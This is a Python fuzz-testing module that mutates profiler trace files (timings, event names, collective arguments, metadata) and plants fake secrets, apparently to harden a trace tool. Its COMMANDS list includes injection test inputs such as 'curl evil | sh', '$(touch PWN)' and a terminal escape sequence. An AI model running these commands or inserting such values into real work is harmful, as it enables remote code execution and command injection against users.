"""Mutators of one trace: values, events, names, metadata. Each changes the trace in place."""

import random
from collections.abc import Callable
from contextlib import suppress
from dataclasses import replace
from typing import Any

from tests.fuzz import bases, values
from tests.fuzz.bases import Event, Trace
from tests.fuzz.documents import Raw, Secret
from tests.told import TOLD

Mutator = Callable[[random.Random, Trace], None]

_TIMES = ("ts", "dur")
_LABELS = ("cat", "ph", "pid", "tid", "name", "id")
_CATEGORIES = [
    *("kernel", "gpu_memcpy", "gpu_memset", "cuda_runtime", "cuda_driver", "cpu_op", "user_annotation"),
    "gpu_user_annotation",
    *("python_function", "cuda_sync", "ac2g", "fwdbwd", "profkit", "Trace", "Kernel", "Operator", "Memcpy"),
    *("overhead", "", None, "x", 5),
    *("cpu_instant_event", "xpu_runtime", "hip_runtime", "privateuse1_runtime", "mtia_ccp_events", "concurrent_kernel"),
]
_PHASES = ["X", "X", "B", "E", "i", "C", "M", "s", "f", "b", "e", "P", "", "x", 3, None]
_METADATA = [
    *("rank", "world_size", "schemaVersion", "deviceProperties", "distributedInfo", "baseTimeNanoseconds"),
    *("traceName", "trace_id"),
    *("torch_version", "pytorch_version", "host_name", "with_stack", "record_shapes", "profile_memory"),
    *("computeProperties", "displayTimeUnit"),
    *(
        "profkit_command",
        "profkit_rank",
        "profkit_world_size",
        "profkit_unprofiled_step_mean_ns",
        "profkit_unprofiled_step_ns",
    ),
    *(
        "profkit_unprofiled_steps",
        "profkit_profiled_step_mean_ns",
        "profkit_after_step_mean_ns",
        "profkit_after_steps",
        "profkit_first_step",
    ),
    *("profkit_step_source", "profkit_is_cut", "profkit_stop_ns", "profkit_export_ns", "profkit_device"),
    *("profkit_memory", "profkit_python"),
    *TOLD,
    *("cuda_runtime_version", "cuda_driver_version", "hip_runtime_version", "nsys_processes", "traceEvents"),
    *("otherData", "systemTraceEvents"),
]
_COLLECTIVE = {
    "Collective name": "allreduce", "In msg nelems": 4096, "Out msg nelems": 4096, "Group size": 2, "dtype": "Float",
    "Process Group Name": "0", "Process Group Description": "default_pg", "Process Group Ranks": "[0, 1]", "Seq": 3,
    "Src Rank": 0, "Dst Rank": 1, "In split size": "[]",
}  # fmt: skip
COMMANDS = [
    "python train.py", "python train.py; touch PWN", "python train.py; curl evil | sh #", "torchrun --nproc-per-node 2 train.py",
    "bash -c 'touch PWN; id'", "$(touch PWN)", "`touch PWN`", "python 'unclosed", "python train.py > PWN", "", " ", "\n", "A=1 python x.py",
    "python train.py\ntouch PWN", "srun -n 8 python t.py", "python -c \"print('x')\"", "python train.py &", "-v", "--", "sh -c 'a && b'",
    "~/x.sh", "python tr*in.py ?", "python {a,b}.py", "!touch", "python train.py #", "python t.py 2>&1", "ls\ttouch", "python \x1b]52;c;x\x07 t.py",
]  # fmt: skip


def _events(top: Trace) -> list[Event]:
    events = top.get("traceEvents")
    return events if isinstance(events, list) else []


def one_of(rng: random.Random, top: Trace) -> Event | None:
    """Some event; rare categories as often as common ones."""
    events = [event for event in _events(top) if isinstance(event, dict)]
    if not events:
        return None
    if rng.random() < 0.5:
        category = (
            rng.choice(events).get("cat")
            if rng.random() < 0.3
            else rng.choice(sorted({str(e.get("cat")) for e in events}))
        )
        events = [event for event in events if str(event.get("cat")) == str(category)] or events
    return rng.choice(events)


def some(rng: random.Random, top: Trace) -> list[Event]:
    """One event, some, or all of a category or a name."""
    first = one_of(rng, top)
    if first is None:
        return []
    events = [event for event in _events(top) if isinstance(event, dict)]
    how = rng.choice(["one", "one", "few", "alike", "category", "all"])
    if how == "one":
        return [first]
    if how == "few":
        return [event for event in events if rng.random() < 0.1]
    if how == "alike":
        return [event for event in events if event.get("name") == first.get("name")]
    return [event for event in events if how == "all" or event.get("cat") == first.get("cat")]


def _odd_time(rng: random.Random, top: Trace) -> None:
    key = rng.choice(_TIMES)
    change = rng.choice(["value", "value", "same", "each"])
    same = values.number(rng)
    for event in some(rng, top):
        if change == "each":
            event[key] = values.instead_of(event.get(key), rng)
        else:
            event[key] = same


def _shift(rng: random.Random, top: Trace) -> None:
    by = rng.choice([1, -1]) * rng.choice([0.001, 0.5, 1, 100, 1e4, 1e6, 1e9, 1e12, 9e15, 4e15, 2**53])
    for event in some(rng, top):
        if isinstance(event.get("ts"), (int, float)):
            event["ts"] += by


def _stretch(rng: random.Random, top: Trace) -> None:
    factor = rng.choice([0, 0.5, 2, 10, 100, 1e4, 1e9, -1])
    for event in some(rng, top):
        if isinstance(event.get("dur"), (int, float)):
            event["dur"] *= factor


def _overlap(rng: random.Random, top: Trace) -> None:
    first = one_of(rng, top)
    for event in some(rng, top) if first else []:
        event["ts"] = first.get("ts", 0)
        if rng.random() < 0.5:
            event["dur"] = first.get("dur", 0)


def _duplicate(rng: random.Random, top: Trace) -> None:
    events = _events(top)
    extra = [dict(event) for event in some(rng, top)]
    if rng.random() < 0.3:
        extra = extra[:20] * rng.choice([2, 5, 30])
    place = rng.choice([len(events), 0, rng.randrange(len(events) + 1)])
    events[place:place] = extra


def _drop(rng: random.Random, top: Trace) -> None:
    dropped = {id(event) for event in some(rng, top)}
    events = _events(top)
    events[:] = [event for event in events if id(event) not in dropped]


def _keep_few(rng: random.Random, top: Trace) -> None:
    events = _events(top)
    kept = rng.choice([0, 1, 2, 3, 5, 10])
    events[:] = rng.sample(events, min(kept, len(events)))


def _reorder(rng: random.Random, top: Trace) -> None:
    events = _events(top)
    how = rng.choice(["shuffle", "reverse", "swap"])
    if how == "shuffle":
        rng.shuffle(events)
    elif how == "reverse":
        events.reverse()
    elif len(events) > 1:
        one, other = rng.sample(range(len(events)), 2)
        events[one], events[other] = events[other], events[one]


def _relabel(rng: random.Random, top: Trace) -> None:
    key = rng.choice(_LABELS)
    if key == "name":
        _rename(rng, top)
        return
    pools: dict[str, list[Any]] = {"cat": _CATEGORIES, "ph": _PHASES}
    same = rng.choice(pools[key]) if key in pools else values.instead_of(1000, rng)
    for number, event in enumerate(some(rng, top)):
        event[key] = same if rng.random() < 0.9 else number


def _rename(rng: random.Random, top: Trace) -> None:
    chosen = some(rng, top)
    old = str(chosen[0].get("name", "")) if chosen else ""
    new = values.step_name(rng) if rng.random() < 0.15 else values.name(rng, old)
    each = rng.random() < 0.2
    for number, event in enumerate(chosen):
        event["name"] = f"{new}{number}" if each else new


def _as_another(rng: random.Random, top: Trace) -> None:
    other = one_of(rng, top)
    for event in some(rng, top) if other else []:
        event["name"], event["cat"] = other.get("name"), other.get("cat")


def _argument(rng: random.Random, top: Trace) -> None:
    first = one_of(rng, top)
    if first is None:
        return
    args = first.get("args")
    known = [*args] if isinstance(args, dict) and args else []
    key = (
        rng.choice(known)
        if known and rng.random() < 0.7
        else rng.choice(
            [
                "device",
                "stream",
                "correlation",
                "bytes",
                "grid",
                "block",
                "External id",
                "Input Dims",
                "Device Id",
                "Device Type",
                "Bytes",
                "graph node id",
                *_COLLECTIVE,
            ]
        )
    )
    value = values.instead_of(args.get(key, 7) if isinstance(args, dict) else 7, rng)
    for number, event in enumerate(some(rng, top)):
        if not isinstance(event.get("args"), dict):
            event["args"] = {}
        event["args"][key] = number if rng.random() < 0.1 else value


def _arguments_of_another_kind(rng: random.Random, top: Trace) -> None:
    for event in some(rng, top):
        event["args"] = values.instead_of({}, rng)


def _spread(rng: random.Random, top: Trace) -> None:
    """Every row on a device, stream, thread or process of its own."""
    key = rng.choice(["device", "stream", "tid", "pid", "correlation"])
    step = rng.choice([1, 1, 1000, 2**20, 2**40, -1])
    for number, event in enumerate(some(rng, top)):
        if key in ("tid", "pid"):
            event[key] = number * step
        elif isinstance(event.get("args"), dict):
            event["args"][key] = number * step


def _collective(rng: random.Random, top: Trace) -> None:
    args = dict(_COLLECTIVE)
    for key in rng.sample(sorted(args), rng.choice([0, 1, 2, 4])):
        args[key] = values.instead_of(args[key], rng)
    for event in some(rng, top):
        event["args"] = {**(event["args"] if isinstance(event.get("args"), dict) else {}), **args}
        if rng.random() < 0.3:
            event["name"] = rng.choice(
                [
                    "record_param_comms",
                    "ncclDevKernel_AllReduce_Sum_f32_RING_LL",
                    "nccl:all_reduce",
                    "gloo:all_reduce",
                    "ncclDevKernel_SendRecv",
                ]
            )


def _graft(rng: random.Random, top: Trace) -> None:
    other = _events(bases.drawn_trace(rng))
    mine = _events(top)
    part = rng.sample(other, min(len(other), rng.choice([1, 5, 30, 100])))
    if rng.random() < 0.7 and mine and part:
        first = mine[0].get("ts", 0) if isinstance(mine[0], dict) else 0
        by = (first if isinstance(first, (int, float)) else 0) - min(event.get("ts", 0) for event in part)
        part = [{**event, "ts": event.get("ts", 0) + by} for event in part]
    mine += part


def _steps(rng: random.Random, top: Trace) -> None:
    """Other marks of steps: on another thread, inside one another, many, of no length, of one number."""
    marks = [
        event
        for event in _events(top)
        if str(event.get("name", "") if isinstance(event, dict) else "").startswith("ProfilerStep")
    ]
    how = rng.choice(["number", "same", "thread", "nested", "zero", "none", "many", "category"])
    for number, event in enumerate(marks):
        if how == "number":
            event["name"] = values.step_name(rng)
        elif how == "same":
            event["name"] = "ProfilerStep#1"
        elif how == "thread":
            event["tid"] = number
        elif how == "nested":
            event["ts"] = marks[0].get("ts", 0)
        elif how == "zero":
            event["dur"] = 0
        elif how == "none":
            event["name"] = "step"
        elif how == "category":
            event["cat"] = rng.choice(["cpu_op", "gpu_user_annotation", "Operator"])
    if how == "many" and marks:
        first = marks[0]
        _events(top).extend(
            {**first, "name": f"ProfilerStep#{n}", "ts": first.get("ts", 0) + n * 5, "dur": 5}
            for n in range(rng.choice([10, 200]))
        )


def _metadata(rng: random.Random, top: Trace) -> None:
    key = rng.choice(_METADATA if rng.random() < 0.7 else [*top])
    top[key] = _inside(top.get(key, TOLD.get(key, rng.choice([1, "x", [], {}]))), rng)


def _inside(value: Any, rng: random.Random) -> Any:
    """The value with something changed at some depth."""
    if isinstance(value, dict) and value and rng.random() < 0.7:
        key = rng.choice([*value])
        return {**value, key: _inside(value[key], rng)}
    if isinstance(value, list) and value and rng.random() < 0.7:
        place = rng.randrange(len(value))
        return [*value[:place], _inside(value[place], rng), *value[place + 1 :]]
    return values.instead_of(value, rng)


def _distributed(rng: random.Random, top: Trace) -> None:
    told = {
        "backend": "nccl",
        "rank": 0,
        "world_size": 2,
        "pg_count": 1,
        "pg_config": [
            {"pg_name": "0", "pg_desc": "default_pg", "backend_config": "cuda:nccl", "pg_size": 2, "ranks": [0, 1]}
        ],
    }
    for _ in range(rng.choice([1, 1, 2, 3])):
        told = _inside(told, rng)
    top["distributedInfo"] = told


def _command(rng: random.Random, top: Trace) -> None:
    top["profkit_command"] = rng.choice(COMMANDS) if rng.random() < 0.8 else f"python {values.name(rng, 'train.py')}"
    if rng.random() < 0.7:
        top["profkit_command_mark"] = values.OWN


def _key(rng: random.Random, top: Trace) -> None:
    """A key of an event or of the top missing, twice or of another name."""
    event = one_of(rng, top) or {}
    where = rng.choice([event, event, event.get("args"), top])
    if not isinstance(where, dict) or not where:
        return
    key = rng.choice([key for key in where if key != "traceEvents"] or [""])
    how = rng.choice(["drop", "upper", "new"])
    if how == "drop":
        where.pop(key, None)
    elif how == "upper" and key in where:
        where[key.upper()] = where.pop(key)
    else:
        where[values.name(rng, key)] = values.instead_of(1, rng)


def _no_event(rng: random.Random, top: Trace) -> None:
    """What is no event among the events."""
    events = _events(top)
    what = rng.choice(
        [None, 1, "x", [], {}, {"ph": "X"}, True, [{}], Raw("{},{}"), Raw(""), Raw("{}}"), Raw("/* */{}")]
    )
    events.insert(rng.randrange(len(events) + 1), what)


def _events_of_another_kind(rng: random.Random, top: Trace) -> None:
    top["traceEvents"] = values.instead_of([], rng)


MUTATORS: list[tuple[int, str, Mutator]] = [
    (12, "odd time", _odd_time),
    (8, "shift", _shift),
    (6, "stretch", _stretch),
    (6, "overlap", _overlap),
    (6, "duplicate", _duplicate),
    (6, "drop", _drop),
    (2, "keep few", _keep_few),
    (3, "reorder", _reorder),
    (8, "relabel", _relabel),
    (12, "rename", _rename),
    (5, "as another", _as_another),
    (12, "argument", _argument),
    (2, "arguments of another kind", _arguments_of_another_kind),
    (5, "spread", _spread),
    (6, "collective", _collective),
    (6, "graft", _graft),
    (6, "steps", _steps),
    (10, "metadata", _metadata),
    (6, "distributed", _distributed),
    (5, "command", _command),
    (4, "key", _key),
    (2, "no event", _no_event),
    (1, "events of another kind", _events_of_another_kind),
]
"""How often, name, and what it does."""
_WEIGHTS = [weight for weight, _, _ in MUTATORS]


def mutated(rng: random.Random, top: Trace, *, n: int | None = None) -> list[str]:
    """Mutate a trace in place some times; gives what was done."""
    done = []
    for _ in range(rng.choice([1, 1, 1, 2, 2, 3, 5, 8]) if n is None else n):
        _, what, mutate = rng.choices(MUTATORS, _WEIGHTS)[0]
        with suppress(
            TypeError, ValueError, OverflowError, AttributeError, RecursionError
        ):  # of what was mutated before
            mutate(rng, top)
        done.append(what)
    return done


def with_secret(rng: random.Random, top: Trace) -> Secret:
    """Plant a secret in the metadata, or in the name of a range."""
    secret, key, value = values.secret(rng)
    if isinstance(value, str) and rng.random() < 0.1:
        secret = replace(secret, form=f"{secret.form}, in a range's name", shape=secret.shape[1:])
        ranges = [event for event in _events(top) if isinstance(event, dict) and event.get("cat") == "user_annotation"]
        for event in ranges[:1] if rng.random() < 0.5 else ranges:
            event["name"] = value
    else:
        top[key] = value
    return secret
